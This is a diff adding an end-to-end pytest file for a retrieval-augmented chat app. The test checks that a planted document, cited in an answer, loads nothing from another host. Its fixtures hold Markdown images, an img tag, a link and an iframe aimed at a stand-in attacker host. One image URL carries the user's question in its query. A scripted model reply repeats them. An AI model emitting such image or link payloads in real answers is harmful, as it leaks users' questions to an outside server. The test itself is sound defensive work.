@@ -1,0 +1,89 @@
+"""No request leaves the page for another host when a planted document is cited: its Markdown images, HTML
+image tags and links, an answer that repeats them, and a question that carries an image are all shown as text.
+Every request the page makes is watched at the browser (and any to another host is stopped there). The reply is
+scripted (a real model cannot be made to repeat the image on cue); everything else is the real app."""
+
+from __future__ import annotations
+
+import socket
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+from urllib.parse import urlsplit
+
+import pytest
+
+pytestmark = [pytest.mark.e2e]
+
+HOST = "collect.attacker.example"
+PLANTED = f"""# Orbit X2 air purifier: care
+
+The Orbit X2 HEPA filter should be replaced every 90 days. ![status](https://{HOST}/md.png?q=QUESTION)
+<img src="https://{HOST}/tag.png"> The pre-filter can be vacuumed once a week.
+Details at [the care page](https://{HOST}/care) and <iframe src="https://{HOST}/frame"></iframe>.
+"""
+QUESTION = f"How often should the Orbit X2 HEPA filter be replaced? ![q](https://{HOST}/question.png)"
+
+
+def _free_port() -> int:
+    with socket.socket() as sock:
+        sock.bind(("127.0.0.1", 0))
+        return int(sock.getsockname()[1])
+
+
+def test_a_cited_planted_document_loads_nothing_from_another_host(
+    make_engine: Callable[..., Any], browser: Any, tmp_path: Path, artifacts: Path
+) -> None:
+    from ragapp.ui.layout import build_ui
+
+    port = _free_port()
+    rig = make_engine(ui={"port": port})
+    doc = tmp_path / "orbit_x2_care.md"
+    doc.write_text(PLANTED, "utf-8")
+    rig.engine.library.ingest([(doc, doc.name)])
+    app = build_ui(rig.engine).queue()
+    app.launch(server_name="127.0.0.1", server_port=port, prevent_thread_lock=True, quiet=True)
+    context = browser.new_context(viewport={"width": 1280, "height": 900}, locale="en-US")
+    remote: list[str] = []
+
+    def watch(route: Any) -> None:
+        url = route.request.url
+        if urlsplit(url).hostname in ("127.0.0.1", "localhost") or url.startswith(("data:", "blob:")):
+            route.continue_()
+            return
+        remote.append(url)
+        route.abort()
+
+    context.route("**/*", watch)
+    try:
+        page = context.new_page()
+        page.set_default_timeout(30_000)
+        page.goto(f"http://127.0.0.1:{port}")
+        chat = page.locator("#chatbot")
+        # The model repeats the document's image (its address is in the passage, so it is not removed as foreign)
+        # and adds a tag of its own.
+        rig.llm.enqueue(
+            f'Every 90 days [1]. ![status](https://{HOST}/md.png?q=QUESTION) <img src="https://{HOST}/tag.png">'
+        )
+        box = page.locator("#question textarea")
+        box.fill(QUESTION)
+        box.press("Enter")
+        page.locator("#chatbot").get_by_text("Writing the answer").last.wait_for()
+        page.wait_for_function(
+            "() => !document.querySelector('#chatbot .pending, #chatbot [data-status=\"pending\"]')"
+            " && !document.querySelector('.generating')",
+            timeout=60_000,
+        )
+        chat.get_by_text("Every 90 days").first.wait_for()
+        chat.get_by_text("[1] orbit_x2_care.md").last.click()  # open the citation: the planted passage itself
+        chat.get_by_text("vacuumed once a week").last.wait_for(state="visible")
+        page.wait_for_timeout(1000)  # give anything that would load the time to ask
+        page.screenshot(path=str(artifacts / "no-remote-content.png"), full_page=True)
+
+        assert [u for u in remote if HOST in u] == []
+        assert chat.locator(f"img[src*='{HOST}'], iframe[src*='{HOST}'], a[href*='{HOST}']").count() == 0
+        assert HOST in chat.inner_text()  # shown as text, so the reader sees where it pointed
+    finally:
+        context.close()
+        app.close()
+    assert remote == [], f"requests to other hosts: {remote}"
